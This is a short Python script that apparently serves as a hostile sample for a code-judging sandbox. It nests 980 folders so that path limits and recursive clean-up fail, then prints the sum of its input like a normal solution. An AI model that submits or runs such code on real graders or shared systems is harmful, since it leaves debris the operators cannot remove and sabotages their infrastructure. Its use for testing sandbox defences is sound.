# what = "Nests folders deeper than a path or a recursive clean-up can reach."

import os

for _ in range(980):
    os.mkdir("deeper")
    os.chdir("deeper")

print(sum(map(int, input().split())))
